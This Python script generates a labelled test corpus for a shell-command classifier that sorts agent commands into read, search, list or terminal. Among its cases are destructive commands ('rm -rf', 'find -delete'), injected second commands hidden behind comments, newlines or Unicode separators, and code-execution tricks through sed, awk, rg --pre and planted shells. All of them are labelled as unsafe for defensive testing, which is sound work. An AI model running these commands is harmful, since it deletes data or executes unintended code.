#!/usr/bin/env python3
"""Writes corpus/*.jsonl: labelled commands for the classifier.

Each line: {"cmd", "expect", ["expect_alt": [...]], ["path"], ["query"], ["line"], "why"}.
expect is what shcard must say; expect_alt lists other acceptable kinds.  path/query/line are
checked when expect is the kind returned.  Run: python3 corpus/make_corpus.py (from the repo
root); the output is committed and `make test` runs it through tests/helpers/run_corpus.
The labels are written by hand from the policy (../shared/docs/classify-policy.md section 3 and
6), never from the classifier's output.
"""
import json
import os
import shlex

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)))
files = {}


def reads_whole(cmd):
    """ag and git grep --no-index/--untracked read each file they walk to its end unless its
    first block has a NUL: only the bridge's tree scan bounds them (terminal elsewhere)."""
    try:
        words = shlex.split(cmd)
        if words[:2] == ["bash", "-lc"] and len(words) == 3:
            words = shlex.split(words[2])
    except ValueError:
        return False
    stage = []
    for w in words + [";"]:
        if w in ("&&", "||", "|", ";"):
            if stage[:1] == ["ag"] or (stage[:1] == ["git"] and "grep" in stage and
                                       ("--no-index" in stage or "--untracked" in stage)):
                return True
            stage = []
        else:
            stage.append(w)
    return False


def case(file, cmd, expect, why, alt=None, path=None, query=None, line=None, context=None,
         cls=None):
    if expect == "search" and context is None and reads_whole(cmd):
        case("terminal", cmd, "terminal", why + ": reads files whole, the tree is scanned only in "
             "the bridge", alt=alt)
        context = "bridge"
    d = {"cmd": cmd, "expect": expect}
    if context:
        d["context"] = context
    if alt:
        d["expect_alt"] = alt if isinstance(alt, list) else [alt]
    if path is not None:
        d["path"] = path
    if query is not None:
        d["query"] = query
    if line is not None:
        d["line"] = line
    d["why"] = why
    if cls is not None:
        d["class"] = cls
    files.setdefault(file, []).append(d)


def wrap(cmd):
    return "bash -lc " + shlex.quote(cmd)


def R(cmd, path, why, line=None, alt=None, wrapped=True, file="read"):
    case(file, cmd, "read", why, alt=alt, path=path, line=line)
    if wrapped:
        case(file, wrap(cmd), "read", why + " (wrapped)", alt=alt, path=path, line=line)


def S(cmd, query, path, why, alt=None, wrapped=True, file="search"):
    case(file, cmd, "search", why, alt=alt, path=path, query=query)
    if wrapped:
        case(file, wrap(cmd), "search", why + " (wrapped)", alt=alt, path=path, query=query)


def SB(cmd, query, why, alt=None, wrapped=True, path=None):
    """A search that may read standard input where stdin is unknown: rg with no path operand,
    and ack always (it searches a piped stdin even when given paths).  In shcard's executor
    (stdin /dev/null) they search the files; elsewhere they are terminal."""
    for c in ([cmd, wrap(cmd)] if wrapped else [cmd]):
        w = " (wrapped)" if c != cmd else ""
        case("search", c, "search", why + w + " (bridge)", alt=alt, query=query, path=path,
             context="bridge")
        case("terminal", c, "terminal", why + w + ": it may read a piped stdin")


def L(cmd, path, why, alt=None, wrapped=True, file="list"):
    case(file, cmd, "list", why, alt=alt, path=path)
    if wrapped:
        case(file, wrap(cmd), "list", why + " (wrapped)", alt=alt, path=path)


def T(cmd, why, alt=None, wrapped=True, file="terminal"):
    case(file, cmd, "terminal", why, alt=alt)
    if wrapped:
        case(file, wrap(cmd), "terminal", why + " (wrapped)", alt=alt)


# ------------------------------------------------------------------ everyday reads
R("cat package.json", "package.json", "plain cat")
R("cat README.md", "README.md", "plain cat")
R("cat src/main.c", "src/main.c", "plain cat")
R("cat -n src/main.c", "src/main.c", "cat -n")
R("cat -A Makefile", "Makefile", "cat -A shows tabs")
R("cat --number src/a.ts", "src/a.ts", "long option")
R("cat --show-e src/a.ts", "src/a.ts", "unique prefix of --show-ends")
T("cat --num src/a.ts", "--num is ambiguous (--number, --number-nonblank): cat reports an error")
R("cat -- -weird", "-weird", "after -- it is a file")
R("cat ./-n", "./-n", "./ makes it a file")
R("cat 'my notes.md'", "my notes.md", "single quotes removed")
R('cat "a b"', "a b", "double quotes removed")
R("cat 'a'\"b\"c", "abc", "adjacent parts form one word")
R("cat my\\ notes.md", "my notes.md", "backslash escape", alt="terminal")
R("cat notes#md", "notes#md", "# inside a word is literal", alt="terminal")
R("cat f # ; rm -rf x", "f", "comment", alt="terminal")
R("cat f 2>/dev/null", "f", "null device", alt="terminal")
R("cat f 1>&2", "f", "fd duplication", alt="terminal")
R("cat f &>/dev/null", "f", "null device", alt="terminal")
R("cat f 2>&1 | head", "f", "fd dup then filter", alt="terminal")
R("cat f || true", "f", "exit-code masking", alt="terminal")
R("true && cat f", "f", "true prefix", alt="terminal")
R("cat f && true", "f", "&& true suffix", alt="terminal")
R("cat < f", "f", "input redirect only reads", alt="terminal")
R("cat f;", "f", "trailing semicolon")
R("cd d && cat f", "d/f", "cd joins the path", alt="terminal")
R("cd /repo && cat src/x.c", "/repo/src/x.c", "absolute cd", alt="terminal")
R("cd a && cd b && cat f", "a/b/f", "two cds", alt="terminal")
R("cd d && cat /etc/hosts", "/etc/hosts", "absolute file ignores cd", alt="terminal")
R("cat f | sort | uniq -c | sort -rn | head", "f", "pure filters after a read", alt="terminal")
R("cat f | wc -l", "f", "wc filter")
R("cat f | cut -d: -f1 | sort -u", "f", "cut and sort filters")
R("cat f | tr a-z A-Z", "f", "tr filter")
R("cat data.tsv | column -t", "data.tsv", "column filter")
R("cat f | grep foo", "f", "grep on stdin as a filter", alt="terminal")
R("cat f | head -n 20", "f", "head filter")
R("cat f | tail -n 20", "f", "tail filter")
R("cat f | nl", "f", "nl filter")
R("cat f | cat -n", "f", "cat -n filter")
R("cat -n f | sed -n 10,20p", "f", "numbered range", line=10)
R("cat $'a\\tb'", "a\tb", "ANSI-C string decoded", alt="terminal")
R("head -n 40 src/app.ts", "src/app.ts", "head -n")
R("head -n5 f", "f", "attached value")
R("head -n50 f", "f", "attached value")
R("head -50 f", "f", "obsolescent count", alt="terminal")
R("head -c 500 f", "f", "bytes", alt="terminal")
R("head -n -5 f", "f", "GNU negative count", alt="terminal")
R("head f -n 5", "f", "GNU permutation", alt="terminal")
R("head -n 5 -- -f.txt", "-f.txt", "after --")
R("head --lines=30 f", "f", "--opt=value")
R("head --lines 30 f", "f", "long option with separate value")
R("head f", "f", "plain head")
R("head -q -n 3 f", "f", "quiet")
R("head -n 20 < f", "f", "input redirect", alt="terminal")
R("tail -n 50 log.txt", "log.txt", "tail -n")
R("tail -n +10 f", "f", "tail from line 10", line=10)
R("tail -n+10 f", "f", "attached +N", line=10)
R("tail --lines=+25 f", "f", "long +N", line=25)
R("tail -20 f", "f", "obsolescent count", alt="terminal")
R("tail f", "f", "plain tail")
R("tail -c 100 f", "f", "bytes", alt="terminal")
R("nl -ba f", "f", "the most common agent read")
R("nl -ba f | sed -n '1,80p'", "f", "numbered range", line=1)
R("nl -ba src/lib.rs | sed -n '120,200p'", "src/lib.rs", "numbered range", line=120)
R("nl -s ': ' f", "f", "separator value skipped")
R("nl -v 10 f", "f", "start value skipped")
R("nl -nrz f", "f", "attached format")
R("nl -w3 -ba f", "f", "width")
R("nl -ba f | head -n 100", "f", "numbered head")
PAGER_WHY = "on a terminal it starts a pager and waits for keys (the oracle's pty mode saw it)"
T("bat f", "bat: " + PAGER_WHY, alt="read")
T("bat -r 40:80 f", "bat: " + PAGER_WHY, alt="read")
T("bat -p f", "bat: one -p still pages: " + PAGER_WHY, alt="read")
T("batcat src/x.py", "batcat: " + PAGER_WHY, alt="read")
R("bat -P f", "f", "bat -P: no pager")
R("bat --paging=never --line-range 10:40 f", "f", "bat range", line=10)
R("bat -P -r 40:80 f", "f", "bat -r is --line-range", line=40)
R("bat -P -r 40: f", "f", "open range", line=40)
R("bat --paging=never -n f", "f", "no pager")
R("bat -pp f", "f", "-pp: plain and no pager")
R("bat --plain --plain f", "f", "--plain twice: no pager")
R("bat --style=plain --color=never -P f", "f", "style and color")
R("bat -r 40:80 f | head -n 20", "f", "piped: bat never pages into a pipe", line=40)
R("batcat -P -r 1:20 src/x.py", "src/x.py", "Debian name", line=1)
R("sed -n '1,40p' src/foo.ts", "src/foo.ts", "sed range", line=1)
R("sed -n 1,40p src/foo.ts", "src/foo.ts", "sed range unquoted", line=1)
R("sed -n '5p' f", "f", "single line", line=5)
R("sed -n '$p' f", "f", "last line")
R("sed -n '10,$p' f", "f", "to the end", line=10)
R("sed -n -e '1,5p' f", "f", "-e script", line=1)
R("sed --quiet '1,5p' f", "f", "--quiet", line=1)
R("sed -n --expression=1,5p f", "f", "--expression=", line=1)
R("sed -ne '3,9p' f", "f", "cluster -ne", line=3)
R("sed -nE '3,9p' f", "f", "cluster -nE", line=3)
R("sed -n '1,40p' \\\n src/foo.ts", "src/foo.ts", "backslash-newline joins", line=1, alt="terminal")
R("sed -n '1,10p' Cargo.toml", "Cargo.toml", "codex test shape", line=1)
R("sed -n '1,40p' f | nl -ba", "f", "range then nl", line=1)
R("sed -n 1,5p < f", "f", "sed reading a redirect", line=1, alt="terminal")
case("read", "/bin/bash -lc 'sed -n '1,10p' Cargo.toml'", "read", "codex's absolute wrapper shape",
     path="Cargo.toml", line=1)
case("read", "bash -c 'cat f'", "read", "bash -c wrapper", path="f")
case("read", "sh -c 'cat f'", "read", "sh -c wrapper", path="f")
case("terminal", "zsh -lc 'head -n 3 f'", "terminal", "zsh is not modelled: not unwrapped")
case("read", "/usr/local/bin/bash -c 'cat f'", "read", "standard-directory wrapper", path="f")
case("read", "/bin/sh -c 'cat f'", "read", "sh wrapper from /bin", path="f")

# ------------------------------------------------------------------ red team: shells (class 3)
# `sh` is dash: bash-only forms mean something else there, so an sh script that uses one is not
# classified.  zsh is not unwrapped at all.
for cmd, why in [
    ("sh -c \"cat $'-n' f\"", "dash reads $'-n' as the literal $-n"),
    ("sh -c \"grep -e $'x' f\"", "ANSI-C quoting is bash-only"),
    ("sh -c 'cat $\"f\"'", "locale quoting is bash-only"),
    ("sh -c 'cat f &>/dev/null'", "dash: cat f & then >/dev/null"),
    ("sh -c 'cat f &>>/dev/null'", "dash: cat f & then >>/dev/null"),
    ("sh -c 'rg foo . |& head'", "|& is bash-only"),
    ("sh -c 'cat <<< f'", "here-strings are bash-only"),
    ("/bin/sh -lc \"sed -n $'1p' f\"", "ANSI-C quoting under /bin/sh"),
    ("zsh -c 'cat =ls'", "zsh expands =cmd to a path"),
    ("zsh -c 'ls *(e:rm -rf x:)'", "zsh glob qualifiers run code"),
    ("zsh -lc 'cat f'", "zsh is not unwrapped"),
    ("/usr/bin/zsh -c 'ls'", "zsh is not unwrapped"),
    ("dash -c 'cat f'", "dash by name is not a wrapper"),
    ("ksh -c 'cat f'", "ksh is not a wrapper"),
]:
    case("terminal", cmd, "terminal", "red team (sh/zsh): " + why)

# ------------------------------------------------------------------ red team: wrappers (class 8)
# Only bash and sh, bare or in /bin, /usr/bin, /usr/local/bin: any other directory may hold a
# program the repository planted.
for cmd, why in [
    ("./bash -lc 'cat f'", "a planted ./bash"),
    ("./sh -c 'cat f'", "a planted ./sh"),
    ("node_modules/.bin/sh -c 'cat f'", "npm bin directory"),
    ("bin/bash -c 'ls'", "a relative directory"),
    ("/tmp/bash -c 'ls'", "a writable directory"),
    ("/opt/homebrew/bin/bash -c 'ls'", "an unlisted directory"),
    ("/bin//bash -c 'ls'", "not the standard spelling"),
    ("/usr/bin/../bin/bash -c 'ls'", "a path through .."),
    ("/usr/./bin/bash -c 'ls'", "a path through ."),
    ("../bash -lc 'cat f'", "a parent directory"),
    ("~/bin/bash -c 'ls'", "a home directory"),
    ("/usr/local/bin/zsh -c 'ls'", "zsh even in a standard directory"),
]:
    case("terminal", cmd, "terminal", "red team (wrapper): " + why)
case("read", "/usr/bin/bash -lc \"nl -ba f | sed -n '1,80p'\"", "read", "double-quoted wrapper",
     path="f", line=1)

# ------------------------------------------------------------------ everyday searches
S("rg -n foo src", "foo", "src", "rg")
SB("rg foo", "foo", "rg without path")
S("rg -n 'fn main' src", "fn main", "src", "quoted pattern")
S("rg -n \"TODO|FIXME\" .", "TODO|FIXME", ".", "alternation")
S("rg -S foo src", "foo", "src", "smart case")
S("rg -nS 'parse_command' codex-rs", "parse_command", "codex-rs", "cluster")
S("rg -i -n foo src | head -n 200", "foo", "src", "head after search")
S("rg -l foo src", "foo", "src", "files with matches")
SB("rg -c foo", "foo", "count")
S("rg -e foo -e bar src", "foo", "src", "first -e is the query")
S("rg --regexp=foo src", "foo", "src", "--regexp=")
S("rg -efoo src", "foo", "src", "attached -e")
S("rg foo src -n", "foo", "src", "options after operands")
S("rg -g '*.ts' foo src", "foo", "src", "glob option value quoted")
SB("rg -t py import", "import", "type option")
SB("rg --type=rust -n unsafe", "unsafe", "--type=")
S("rg -A 3 -B 2 foo src", "foo", "src", "context values")
SB("rg -C2 foo", "foo", "attached context")
SB("rg --colors=never foo", "foo", "codex test: --colors", alt="terminal")
SB("rg --color never foo", "foo", "color")
S("rg --json foo src", "foo", "src", "json output")
S("rg -n '$(whoami)' src", "$(whoami)", "src", "single quotes keep it literal")
S("rg -n \"\\$HOME\" src", "$HOME", "src", "escaped dollar is literal", alt="terminal")
S("rg -F 'a.b' src", "a.b", "src", "fixed strings")
SB("rg --hidden -uu foo", "foo", "unrestricted")
S("rg -w foo src tests", "foo", "src", "two roots")
S("rg foo -- -src", "foo", "-src", "path after --")
S("rg -- -foo src", "-foo", "src", "pattern after --")
S("rg --replace X foo src", "foo", "src", "replace only changes output", alt="terminal")
S("rg foo src 2>/dev/null", "foo", "src", "null stderr", alt="terminal")
S("rg foo src | wc -l", "foo", "src", "count lines")
S("rg -n foo src | sort | uniq", "foo", "src", "sort uniq")
S("rg foo src || true", "foo", "src", "exit-code masking", alt="terminal")
S("cd d && rg x src", "x", "d/src", "cd joins the root", alt="terminal")
S("cd d && rg x", "x", "d", "cd is the root", alt="terminal")
S("grep -rn foo src", "foo", "src", "grep -r")
S("grep -rn foo .", "foo", ".", "grep -r dot")
S("grep -n foo file.txt", "foo", "file.txt", "grep a file")
S("grep -r src/main.rs -n .", "src/main.rs", ".", "codex test: query not shortened")
T("grep -R src/main.rs -n .", "grep -R follows symbolic links")
S("grep -e TODO -n src/a.c", "TODO", "src/a.c", "-e")
S("grep -eTODO -n src/a.c", "TODO", "src/a.c", "attached -e")
S("grep --regexp=TODO -r src", "TODO", "src", "--regexp=")
S("grep -r foo", "foo", None, "grep -r without operand searches .")
S("grep -E 'a|b' -r src", "a|b", "src", "extended")
S("grep -ril foo src", "foo", "src", "cluster")
S("grep --include='*.c' -rn foo src", "foo", "src", "include value")
S("grep --recursive --line-number foo src", "foo", "src", "long options")
S("grep --rec -n foo src", "foo", "src", "prefix of --recursive")
S("egrep -rn 'a|b' src", "a|b", "src", "egrep")
S("fgrep -rn 'a.b' src", "a.b", "src", "fgrep")
S("grep -rn foo src | head -n 50", "foo", "src", "head after grep")
S("grep -c foo a.txt", "foo", "a.txt", "count")
T("git grep -n TODO -- src", "git grep: " + PAGER_WHY, alt="search")
T("git grep TODO", "git grep: " + PAGER_WHY, alt="search")
S("git --no-pager grep -n TODO -- src", "TODO", "src", "git grep without a pager")
S("git -P grep TODO", "TODO", None, "-P is --no-pager")
T("git --no-pager grep -c 'foo.*bar'", "git grep: glibc's matcher is quadratic with a repetition on a long line")
T("git --no-pager grep -e foo -e 'a\\+b' -- src", "git grep: a repetition in any -e pattern")
T("git --no-pager grep -F -E 'foo.*bar'", "git grep: the last of -F/-E wins: a regex")
S("git --no-pager grep -F 'foo.*bar'", "foo.*bar", None, "git grep -F: fixed strings")
S("git --no-pager grep -E 'foo|ba.r' -- src", "foo|ba.r", "src", "git grep: no repetition")
T("nl -bp'x*a*b' f", "nl -bp: glibc's matcher is quadratic with a repetition on a long line")
R("nl -bpfoo f", "f", "nl -bp with a plain word")
S("git grep -n -e foo | head", "foo", None, "piped: no pager")
S("git --no-pager grep -n foo", "foo", None, "--no-pager")
T("git --no-pager grep -il foo -- '*.md'", "git: a pathspec pattern (a glob) makes git walk every directory below its literal one; only the bridge context scans that subtree", alt="search")
S("git grep -n TODO -- src | head -n 50", "TODO", "src", "piped: no pager")
T("ag foo src", "ag runs `sh -c git config` without -U (seen by the oracle)", alt="search")
T("ag -i foo", "ag runs `sh -c git config` without -U", alt="search")
T("ag -u foo", "-u still runs git config", alt="search")
S("ag -U foo src", "foo", "src", "ag -U does not run git")
T("ag -U -i foo", "ag without a path searches standard input")
S("ag --skip-vcs-ignores --nocolor -l foo src", "foo", "src", "ag list")
T("ag -Ui foo", "ag without a path searches standard input")
S("ag -U -C 2 foo src", "foo", "src", "context with a number")
S("ag -U --context=3 foo src", "foo", "src", "optional attached value")
S("ag -U --context foo src", "foo", "src", "--context takes no separate value in ag")
T("ag -U --context=never foo src", "found by fuzz-safety: ag loops forever on a non-number", alt="search")
T("ag -U -Ax foo src", "ag loops forever on a non-number")
T("ack -C 3 foo", "ack's -C takes an optional number: not in the table", alt="search")
SB("ack foo src", "foo", "ack", path="src")
SB("ack -i --nocolor foo", "foo", "ack")
S("find . -name '*.rs'", "*.rs", ".", "name predicate")
S("find src -name '*.test.ts' -type f", "*.test.ts", "src", "name + type")
S("find . -iname 'readme*'", "readme*", ".", "iname")
S("find . -path '*/node_modules' -prune -o -name '*.js' -print", "*.js", ".",
  "prune skips the first name", alt="terminal")
S("find . -name node_modules -prune -o -name '*.js' -print", "*.js", ".",
  "codex shows node_modules", alt="terminal")
S("find . -type f -name '*.py' | head -n 20", "*.py", ".", "find then head")
S("find . -regex '.*\\.c$'", ".*\\.c$", ".", "regex")
S("find . -maxdepth 3 -name Makefile", "Makefile", ".", "maxdepth")
S("find . -name '*.md' -print0", "*.md", ".", "print0")
S("find . -name '*.md' -printf '%p\\n'", "*.md", ".", "printf prints to stdout")
S("find . -name '*.c' -newer Makefile", "*.c", ".", "newer reads a timestamp")
S("find . -not -name '*.o' -name '*.c'", "*.c", ".", "negated name is not the query")
S("fd main src", "main", "src", "fd")
S("fd -e ts component", "component", None, "fd pattern with extension")
S("fdfind -H config", "config", None, "Debian name")
S("fd -t f test src", "test", "src", "fd type")
S("fd --search-path src main", "main", "src", "search-path")

# ------------------------------------------------------------------ everyday lists
L("ls", None, "ls")
L("ls -la", None, "ls -la")
L("ls -la src", "src", "ls dir")
L("ls -lah src/components", "src/components", "ls dir")
L("ls -1", None, "one per line")
L("ls --color=never -l", None, "optional value attached")
L("ls -R src", "src", "recursive")
L("ls -la | head -n 50", None, "ls then head")
L("ls src | wc -l", "src", "count")
L("ls -t | head", None, "newest first")
L("ls -d src", "src", "directory itself")
L("ls -- -dir", "-dir", "after --")
L("ls -la src 2>/dev/null", "src", "null stderr", alt="terminal")
L("cd src && ls", "src", "cd then ls", alt="terminal")
L("cd src && ls -la lib", "src/lib", "cd joins", alt="terminal")
L("ls -I node_modules", None, "ignore value")
L("ls --sort=time", None, "sort value")
L("ls --all", None, "long")
T("ls --al", "prefix of --all/--almost-all is ambiguous: ls reports an error")
L("tree", None, "tree")
L("tree -L 2", None, "depth")
L("tree -L 2 src", "src", "depth and dir")
L("tree -a -I node_modules", None, "ignore")
L("tree -d src | head -n 40", "src", "tree then head")
L("tree --dirsfirst -L 3", None, "dirsfirst")
L("find src -type f", "src", "find list")
L("find . -maxdepth 2 -type d", ".", "find list")
L("find", None, "find with nothing")
L("find . -type f | wc -l", ".", "count files")
L("find . -maxdepth 1", ".", "depth only")
L("find . -type f -size +1M", ".", "size filter")
L("find . -mtime -1 -type f", ".", "mtime")
T("find -L . -type l", "find -L follows symbolic links")
L("find . -empty", ".", "empty files")
L("find . -type f -ls", ".", "ls action prints")
L("fd", None, "fd lists")
L("fd -t d", None, "fd dirs")
L("fd -e ts", None, "fd extension only", alt="search")
L("fd . src", "src", "match-all pattern")
L("fdfind -t f . src", "src", "Debian name")
L("rg --files", None, "rg --files")
L("rg --files | head -50", None, "rg --files then head")
L("rg --files webview/src", "webview/src", "rg --files dir")
L("rg --files webview/src | sed -n '1,200p'", "webview/src", "codex test shape")
L("rg --files | nl -ba", None, "codex test shape")
L("rg --files | wc -l", None, "codex test shape")
L("rg --files -g '*.ts' src", "src", "files with glob")
L("rg --files | grep -i test", None, "grep filter on list", alt="terminal")
L("git ls-files", None, "git ls-files")
L("git ls-files src", "src", "git ls-files dir")
L("git ls-files | wc -l", None, "count")
L("git ls-files -- src", "src", "after --")
L("git ls-files --others --exclude-standard", None, "untracked")
L("git ls-files | head -n 100", None, "head")

# ------------------------------------------------------------------ terminal: writes, deletes, executes
T("git status", "not a read/search/list")
T("git status | wc -l", "codex test shape")
T("git log --oneline -n 20", "git log is terminal")
T("git diff", "git diff is terminal")
T("git show HEAD:f", "revision blob, not a file on disk", alt="read")
T("echo foo > bar", "writes")
T("echo hello", "echo is not a read")
T("rm -rf build", "deletes")
T("mkdir -p out", "creates")
T("touch x", "creates")
T("mv a b", "renames")
T("cp a b", "copies")
T("npm test", "runs")
T("make -j4", "runs")
T("python3 -c 'print(1)'", "interpreter")
T("python -c \"import os; print(os.listdir('.'))\"", "interpreter, codex says list")
T("node -e 'console.log(1)'", "interpreter")
T("perl -ne 'print' f", "interpreter")
T("awk '{print $1}' f", "awk programs can system()", alt="read")
T("awk 'BEGIN{system(\"rm x\")}' f", "awk system")
T("awk '{print > \"out\"}' f", "awk writes")
T("cat f | awk '{system(\"id\")}'", "awk filter executes")
T("rg --version && node -v && npm -v", "codex chain")
T("sed -i 's/a/b/' f", "in place")
T("sed -n -i 1,5p f", "in place with -n")
T("sed -n '1,40p' -i f", "-i after the script")
T("sed -n 1,5p f --in-place", "permutation")
T("sed -n --in=.bak 1,5p f", "prefix of --in-place")
T("sed -n --in-pl 1,5p f", "prefix of --in-place")
T("sed -n 1,5p \"-i\" f", "quoted flag is still a flag")
T("sed -n 1,5p -\\i f", "escaped flag is still a flag")
T("sed -ni 1,5p f", "cluster with i")
T("sed -Ei -n 1p f", "cluster with i")
T("sed -n5p f", "parsed as -n -5")
T("sed -n '1,40p;w out' f", "w writes")
T("sed -n '1,40w out' f", "w writes")
T("sed -n '1e id' f", "e executes")
T("sed -n 's/x/y/ep' f", "s///e executes")
T("sed -n 's/x/y/w out' f", "s///w writes")
T("sed -n -e 1p -e 'w out' f", "second -e writes")
T("sed -n 1p '-ew out' f", "attached -e script writes")
T("sed -n '/re/p' f", "regex address outside the subset", alt="read")
T("sed -n '10,+5p' f", "relative address outside the subset", alt="read")
T("sed -n '1,5p;8,9p' f", "two ranges", alt="read")
T("sed '1,40p' f", "no -n prints every line", alt="read")
T("sed -n 1,5p *.txt", "glob may expand to -i")
T("sed -n 1,5p a b", "no single location", alt="read")
T("sed -n -f script.sed f", "script from a file")
T("cat f | sed 's/a/b/w out'", "filter writes")
T("ls | sed 'e rm -rf x'", "filter executes")
T("cat f | sed -n 's/a/b/p'", "substitution is outside the subset", alt="read")
T("tail -f log", "never ends")
T("tail -F log", "never ends")
T("tail -n 50 -f log", "follow after -n")
T("tail --follow=name log", "never ends")
T("tail -fn 50 log", "cluster")
T("tail --fo log", "prefix of --follow")
T("tail --retry log", "retries")
T("less f", "pager", alt="read")
T("more f", "pager", alt="read")
T("less +F f", "never ends")
T("less -p TODO f", "pager", alt="read")
T("find . -name '*.rs' -delete", "deletes")
T("find . -type f -exec rm {} \\;", "executes")
T("find . -exec cat {} +", "executes")
T("find . -execdir ls \\;", "executes")
T("find . -ok rm {} \\;", "executes")
T("find . -okdir rm {} \\;", "executes")
T("find . -fprint out.txt", "writes")
T("find . -fprint0 out.txt", "writes")
T("find . -fprintf out.txt '%p'", "writes")
T("find . -fls out.txt", "writes")
T("find . -name *.rs", "unquoted glob", alt="search")
T("find -name '*.rs' .", "paths must precede the expression", alt="search")
T("find . -name '*.c' -exec sed -i s/a/b/ {} +", "find -exec sed -i")
T("find . -D tree -name x", "debug option")
T("fd -e rs -x rm", "executes")
T("fd -X rm", "executes")
T("fd --exec echo", "executes")
T("fd -l", "runs ls")
T("fd -t f src/", "fd errors: src/ is a pattern", alt=["list", "search"])
T("rg --pre ./evil.sh foo src", "executes")
T("rg --pre=./x foo", "executes")
T("rg --p\\re=./x foo", "escaped flag")
T("rg '--pre=./x' foo", "quoted flag")
T("rg --hostname-bin ./x foo", "executes")
T("rg -z foo", "decompression programs", alt="search")
T("rg --search-zip foo", "decompression programs", alt="search")
T("rg -nz foo", "grouped -z")
T("rg -ne-z foo", "-e value is -z; fine but codex test", alt="search")
T("rg -f patterns.txt src", "patterns from a file", alt="search")
T("rg foo | tee out.txt", "writes")
T("rg -l foo | xargs rm", "deletes")
T("rg -l foo | xargs perl -pi -e 's/a/b/'", "edits")
T("rg -l foo | xargs sed -i s/a/b/", "edits")
T("cat f | xargs rm", "deletes")
T("cat f | sort -o f", "writes")
T("cat f | uniq - out", "writes")
T("cat f | sh", "executes")
T("cat f | bash", "executes")
T("cat f | python3", "executes")
T("sort -o out data && cat x", "writes")
T("tee out && ls", "writes")
T("xargs rm -rf build && ls", "deletes")
T("tree -o tree.txt", "writes")
T("tree -R -L 2", "writes 00Tree.html")
T("tree --fromfile", "reads stdin")
T("git -c core.pager=x grep foo", "config")
T("git -p grep foo", "pager")
T("git --paginate grep foo", "pager")
T("git --pag grep foo", "prefix of --paginate")
T("git -C vendor grep TODO", "global option", alt="search")
T("git grep -O TODO", "opens pager")
T("git grep --open-files-in-pager=vim TODO", "opens editor")
T("git grep --open TODO", "prefix of --open-files-in-pager")
T("git grep --textconv foo", "runs filters")
T("git grep --text foo", "prefix ambiguous with --textconv", alt="search")
T("git -c x=y ls-files", "config")
T("git ls-files | xargs wc -l", "xargs")
T("base64 -o out f", "writes")
T("base64 f", "not in the allowlist")
T("uniq in out", "writes")
T("sort data", "not a read in the allowlist")
T("wc -l f", "wc is a filter, not a read", alt="read")
T("diff a b", "not in the allowlist")
T("jq . f.json", "not in the allowlist", alt="read")
T("stat f", "not in the allowlist")
T("file f", "not in the allowlist")
T("pwd", "not in the allowlist")

# ------------------------------------------------------------------ terminal: shell shapes
T("FOO=1 cat x", "assignment prefix")
T("RIPGREP_CONFIG_PATH=/tmp/x rg foo", "env injects config")
T("LESSOPEN='|x %s' less f", "env injects")
T("command cat x", "wrapper", alt="read")
T("env cat x", "wrapper", alt="read")
T("exec cat x", "wrapper", alt="read")
T("time cat x", "wrapper", alt="read")
T("timeout 5 cat x", "wrapper", alt="read")
T("nice cat x", "wrapper", alt="read")
T("sudo cat x", "privilege")
T("doas cat x", "privilege")
T("\\cat x", "escaped name", alt="read")
T("'cat' x", "quoted name", alt="read")
T("\"cat\" x", "quoted name", alt="read")
T("/usr/bin/cat x", "path-qualified", alt="read")
T("./cat x", "not the real tool")
T("/tmp/evil/cat x", "not the real tool")
T("ls *.rs", "glob", alt="list")
T("ls {a,b}", "brace", alt="list")
T("ls ~/", "tilde", alt="list")
T("ls ~root", "tilde user", alt="list")
T("ls -d */", "glob", alt="list")
T("cat *.md", "glob")
T("cat src/{a,b}.ts", "brace")
T("cat ~root/x", "tilde")
T("cat file?.txt", "glob")
T("cat [ab].txt", "glob")
T("cat a b", "no single location", alt="read")
T("head -n 20 a b", "no single location", alt="read")
T("cat -", "stdin")
T("cat -- -", "stdin even after --")
T("cat", "stdin")
T("grep foo", "stdin")
T("head -n 5", "stdin")
T("sed -n 1p", "stdin")
T("cat <> f", "read-write")
T("cat f 2> err", "writes")
T("cat f 2>/dev/nul", "writes a file")
T("cat f 3> x", "writes")
T("cat f >& out", ">&word writes")
T("cat f >| f2", "clobber writes")
T("cat f >> log", "appends")
T("cat f > g", "writes")
T("cat f &> out", "writes")
T("cat f &>> out", "appends")
T("rg foo > out.txt", "writes")
T("ls > files.txt", "writes")
T("cat f; echo done", "several actions", alt="read")
T("echo '---' && cat f", "several actions", alt="read")
T("printf 'x\\n'; cat f", "several actions", alt="read")
T("cat a && cat b", "several actions")
T("cat f && rm f", "deletes after")
T("rm f || cat f", "deletes")
T("cat f || rm f", "deletes on failure")
T("cd d1 d2 && cat f", "bash refuses two operands")
T("cd && cat f", "cd to home")
T("cd - && cat f", "previous directory")
T("cd ~ && cat f", "tilde")
T("cd d || cat f", "cd failure runs the read elsewhere", alt="read")
T("cd d; cat f", "several commands", alt="read")
T("cat <<EOF\nx\nEOF", "heredoc")
T("cat <<< 'x'", "here-string")
T("cat <(ls)", "process substitution")
T("diff <(ls a) <(ls b)", "process substitution")
T("cat $(echo f)", "command substitution")
T("cat `echo f`", "backquotes")
T("cat $F", "parameter expansion")
T("cat ${F}", "parameter expansion")
T("cat \"$F\"", "parameter expansion in quotes")
T("cat $((1+2))", "arithmetic")
T("rg \"$PAT\" src", "expansion in the pattern")
T("rg -g\"$VAR\" foo", "codex gate test")
T("(cat f)", "subshell", alt="read")
T("{ cat f; }", "group", alt="read")
T("! cat f", "negation", alt="read")
T("[ -f x ] && cat x", "test", alt="read")
T("if true; then cat f; fi", "control flow")
T("for f in a b; do cat $f; done", "loop")
T("while true; do ls; done", "never ends")
T("cat f &", "background")
T("cat f & rm x", "background then delete")
T("cat f\nrm x", "newline separates commands")
T("cat f\rrm x", "carriage return")
T("cat f\uff1brm x", "fullwidth semicolon")
T("cat f\u2028rm x", "line separator")
T("cat 'f\u2028x'", "line separator inside a word", alt="read")
T("bash -lc 'cat f' && rm x", "only the plain wrapper is unwrapped")
T("bash -lc 'cat f' extra", "wrapper with extra word", alt="read")
T("bash -lc \"bash -lc 'cat f'\"", "nested wrapper", alt="read")
T("/usr/bin/env bash -lc 'cat f'", "env wrapper", alt="read")
T("rg --files | head -n 40 file.txt", "filter with a file operand")
T("cat f | head -n 5 g", "filter with a file operand")
T("ls | cat f", "filter with a file operand", alt="read")
T("cat f | tee g", "writes")
T("rga foo", "runs adapters", alt="search")
T("zgrep foo f.gz", "runs gzip", alt="search")
T("ls &&", "syntax error")
T("&& ls", "syntax error")
T("ls ;; ls", "syntax error")
T("ls | | wc", "syntax error")
T("cat 'unterminated", "syntax error")
T("ls |", "incomplete")
T("", "empty command")
